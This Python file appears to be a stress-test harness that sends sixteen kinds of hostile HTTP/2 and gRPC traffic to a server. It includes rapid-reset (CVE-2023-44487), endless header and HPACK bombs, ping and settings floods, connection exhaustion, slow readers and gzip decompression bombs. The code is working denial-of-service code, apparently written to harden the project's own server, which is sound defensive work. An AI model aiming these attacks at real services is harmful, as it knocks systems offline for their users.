"""Clients that mean harm, each for a while: hostile_attacks.py NAME ADDRESS SECONDS.

An attack is a function of the server's address and the moment to end at; it returns how much of it
it did, which the program prints. It is a process of its own, so that what it takes away from others
it takes at the server.
"""

import concurrent.futures
import contextlib
import itertools
import select
import socket
import sys
import time
import zlib

import raw_http2
import swoosh_server  # noqa: F401  (it knows where the generated modules are)
from raw_http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
)
from swoosh.v1 import orchestrator_pb2

GET_STATE = "/swoosh.v1.Orchestrator/GetState"
LIST_INSTANCES = "/swoosh.v1.Orchestrator/ListInstances"
SUBMIT = "/swoosh.v1.Orchestrator/Submit"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CONNECTIONS = 10_000
FEW_CONNECTIONS = 8
FEW_STREAMS = 16
SLICE_BYTES = 1 << 16
GOES_ON_BYTES = 16 << 20
BOMB_MIB = 400
PAGE_SIZE = 1_000
# Where attackers come from: addresses of this machine, so that what is done about them does not
# fall on the well-behaved client, who has 127.0.0.1.
SOURCES = [f"127.0.1.{number}" for number in range(1, 251)]
BATCH = 100
MESSAGE_BYTES_MAX = 4 * 1024 * 1024


def _again(address, end, attack, sources=SOURCES[:1]):
    """Runs attack(connection) on a connection after the other, until it is time, each from the
    next address. None acknowledges the server's settings, as what it says is not looked at."""
    done, sources = 0, itertools.cycle(sources)
    while time.monotonic() < end:
        source = next(sources)
        with contextlib.suppress(OSError), Connection(address, source=source) as connection:
            while time.monotonic() < end:
                count, goes_on = attack(connection)
                done += count
                if not goes_on or not connection.drain():
                    break
    return done


def rapid_reset(address, end):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    return _again(address, end, _resets)


def rapid_reset_of_many(address, end):
    """The same, from one address after the other."""
    return _again(address, end, _resets, SOURCES)


def _resets(connection):
    headers = raw_http2.call_headers(GET_STATE)
    reset = CANCEL.to_bytes(4, "big")
    batch = b""
    for _ in range(BATCH):
        stream = connection.stream()
        batch += frame(HEADERS, END_HEADERS, stream, headers)
        batch += frame(DATA, END_STREAM, stream, raw_http2.message(b""))
        batch += frame(RST_STREAM, 0, stream, reset)
    return BATCH, connection.send(batch)


def send_endless_header(connection, end):
    """One header of a gigabyte, in frames without end; returns how many were sent."""
    piece = b"x" * 16_384
    begin = raw_http2.call_headers(GET_STATE) + b"\x00" + raw_http2.text(b"x-long")
    begin += raw_http2.length_only(1 << 30)
    goes_on = connection.send(frame(HEADERS, 0, 1, begin))
    sent = 0
    while goes_on and time.monotonic() < end:
        goes_on = connection.send(frame(CONTINUATION, 0, 1, piece)) and connection.drain()
        sent += 1
    return sent


def header_flood(address, end, sources=SOURCES[:1]):
    """Frames of one header that does not end (CVE-2023-33953, CVE-2024-27316)."""
    return _again(address, end, lambda each: (send_endless_header(each, end), False), sources)


def header_flood_of_many(address, end):
    """The same on several connections: each takes a thread of the server's."""
    with concurrent.futures.ThreadPoolExecutor(FEW_CONNECTIONS) as pool:
        sources = SOURCES[:FEW_CONNECTIONS]
        floods = [pool.submit(header_flood, address, end, [each]) for each in sources]
        return sum(flood.result() for flood in floods)


def bomb(connection, method=GET_STATE):
    """The beginning of a call whose metadata of four kilobytes come to be sixteen megabytes: one
    entry of the table, four thousand times. So much is let pass of who acknowledges no settings."""
    block = raw_http2.call_headers(method)
    if connection.next_stream == 1:
        block += raw_http2.indexed_literal(b"x-bomb", b"y" * 3_900)
    block += raw_http2.indexed(62) * 4_000
    return frame(HEADERS, END_HEADERS, connection.stream(), block)


def header_bomb(address, end):
    """Metadata that are packed (CVE-2023-33953), of calls that are never ended."""
    return _again(address, end, lambda each: (1, each.send(bomb(each))))


def header_bomb_of_many(address, end):
    """The same on several connections, with fewer calls than a connection may have."""

    def begin(connection, end):
        done = 0
        while done < 1_500 and time.monotonic() < end and connection.send(bomb(connection)):
            done += 1
        return done

    return _on_few(address, end, begin)


def ping_flood(address, end):
    return _again(
        address, end, lambda each: (BATCH, each.send(frame(PING, 0, 0, b"hostile!") * BATCH))
    )


def settings_flood(address, end):
    """Settings, each of which is to be acknowledged, to a client that does not read."""
    done = 0
    while time.monotonic() < end:
        slow = Connection(address, receive_bytes=4_096, source=SOURCES[0])
        with contextlib.suppress(OSError), slow as connection:
            connection.socket.settimeout(0.5)
            while time.monotonic() < end and connection.send(frame(SETTINGS, 0, 0) * BATCH):
                done += BATCH
    return done


def connections(address, end):
    """Very many of them, half of which never say a word."""
    held = []
    host, _, port = address.rpartition(":")
    try:
        while len(held) < CONNECTIONS and time.monotonic() < end:
            with contextlib.suppress(OSError):
                source = SOURCES[len(held) * len(SOURCES) // CONNECTIONS]
                each = socket.create_connection((host, int(port)), 5, (source, 0))
                held.append(each)
                if len(held) % 2 == 0:
                    each.sendall(raw_http2.PREFACE + raw_http2.settings())
        time.sleep(max(0, end - time.monotonic()))
        return len(held)
    finally:
        for each in held:
            each.close()


def _on_few(address, end, begin):
    """Runs begin(connection) on a few connections, which are held and not read until the end. The
    server may close them; what was begun is counted."""
    held, done = [], 0
    try:
        for source in SOURCES[:FEW_CONNECTIONS]:
            with contextlib.suppress(OSError):
                held.append(
                    Connection(
                        address, receive_bytes=4_096, source=source, initial_window_size=0
                    )
                )
                done += begin(held[-1], end)
        time.sleep(max(0, end - time.monotonic()))
        return done
    finally:
        for each in held:
            each.close()


def slow_readers(address, end):
    """Long lists asked for, and not a byte of them received."""
    asked = orchestrator_pb2.ListInstancesRequest(page_size=PAGE_SIZE).SerializeToString()

    def begin(connection, end):
        done = 0
        while done < 4_096 and time.monotonic() < end:
            stream = connection.stream()
            sent = connection.send(
                frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(LIST_INSTANCES))
                + frame(DATA, END_STREAM, stream, raw_http2.message(asked))
            )
            if not sent:
                break
            done += 1
        return done

    return _on_few(address, end, begin)


def half_messages(address, end):
    """Messages of 4 MiB that are begun, as far as the windows let them, and never ended."""
    piece = b"z" * 16_000

    def begin(connection, end):
        done = 0
        while done < 4_096 and time.monotonic() < end:
            stream = connection.stream()
            begun = raw_http2.message(b"", MESSAGE_BYTES_MAX - 5)
            data = frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(SUBMIT))
            data += frame(DATA, 0, stream, begun) + frame(DATA, 0, stream, piece) * 3
            if not connection.send(data):
                break
            done += 1
        return done

    return _on_few(address, end, begin)


def send_as_taken(connection, end, messages):
    """Sends messages, {stream: bytes}, as far as the windows let them; returns how much."""
    sent = dict.fromkeys(messages, 0)
    while connection.learn(0.001) and time.monotonic() < end:
        goes_on = True
        while goes_on:
            goes_on = False
            for stream, data in messages.items():
                count = connection.send_data(stream, data[sent[stream] :][:SLICE_BYTES])
                sent[stream] += count
                goes_on = goes_on or count > 0
    return sum(sent.values())


def endless_messages(address, end):
    """Messages of 1 GiB, of which all is sent that the windows take: few calls, many bytes."""
    begun = memoryview(raw_http2.message(bytes(GOES_ON_BYTES), 1 << 30))

    def attack(connection):
        streams = [connection.stream() for _ in range(FEW_STREAMS)]
        headers = raw_http2.call_headers(SUBMIT)
        connection.send(b"".join(frame(HEADERS, END_HEADERS, each, headers) for each in streams))
        return send_as_taken(connection, end, dict.fromkeys(streams, begun)) >> 10, False

    return _again(address, end, attack, SOURCES)


def compressed_bombs(address, end):
    """Messages of some hundred kilobytes that are to come to be a thousand times that."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    # Each as good as the one before, and there is no last one: it unpacks all the same.
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = first + again * (BOMB_MIB - 1)
    bomb = memoryview(raw_http2.message(packed, compressed=True))
    headers = raw_http2.call_headers(SUBMIT) + raw_http2.literal(b"grpc-encoding", b"gzip")

    def attack(connection):
        streams = [connection.stream() for _ in range(FEW_STREAMS)]
        connection.send(b"".join(frame(HEADERS, END_HEADERS, each, headers) for each in streams))
        sent = send_as_taken(connection, end, dict.fromkeys(streams, bomb))
        return sent // len(bomb), False

    return _again(address, end, attack, SOURCES)


def reflection(address, end):
    """Streams of the one service that takes a thread for each."""

    def begin(connection, end):
        done = 0
        while done < 500 and time.monotonic() < end:
            stream = connection.stream()
            if not connection.send(
                frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(REFLECTION))
            ):
                break
            done += 1
        return done

    return _on_few(address, end, begin)


def oversize(address, end):
    """Messages that say they have a gigabyte."""

    def attack(connection):
        stream = connection.stream()
        data = frame(HEADERS, END_HEADERS, stream, raw_http2.call_headers(SUBMIT))
        data += frame(DATA, 0, stream, raw_http2.message(b"z" * 1_000, 1 << 30))
        return 1, connection.send(data)

    return _again(address, end, attack)


def garbage(address, end):
    """What is not HTTP/2."""
    host, _, port = address.rpartition(":")
    done = 0
    while time.monotonic() < end:
        source = (SOURCES[0], 0)
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, int(port)), 5, source) as each,
        ):
            each.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + bytes(range(256)) * 16)
            select.select([each], [], [], 1)
            done += 1
    return done


ATTACKS = (
    rapid_reset,
    rapid_reset_of_many,
    header_flood,
    header_flood_of_many,
    header_bomb,
    header_bomb_of_many,
    ping_flood,
    settings_flood,
    connections,
    slow_readers,
    half_messages,
    endless_messages,
    compressed_bombs,
    reflection,
    oversize,
    garbage,
)


def main():
    name, address, seconds = sys.argv[1:]
    attack = next(each for each in ATTACKS if each.__name__ == name)
    print(attack(address, time.monotonic() + float(seconds)))


if __name__ == "__main__":
    main()
